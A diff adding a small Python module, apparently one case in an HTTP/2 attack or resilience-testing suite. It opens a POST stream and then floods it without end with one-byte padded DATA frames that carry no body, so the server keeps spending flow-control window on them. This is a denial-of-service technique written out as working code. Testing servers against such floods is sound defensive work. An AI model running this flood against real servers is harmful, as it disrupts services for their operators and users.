@@ -1,0 +1,15 @@
+"""DATA frames with one byte of padding and nothing else: no body comes, but the window
+is used and has to be given back."""
+
+from itertools import repeat
+
+import frames
+from attack import Attack
+
+ATTACK = Attack()
+
+
+async def run(target):
+    post = frames.request(1, frames.head(b"/", "POST"), ends=False)
+    batch = frames.frame(frames.DATA, frames.PADDED, 1, b"\x01\x00") * 500
+    return await target.flood(8, frames.opening() + post, lambda: repeat(batch))
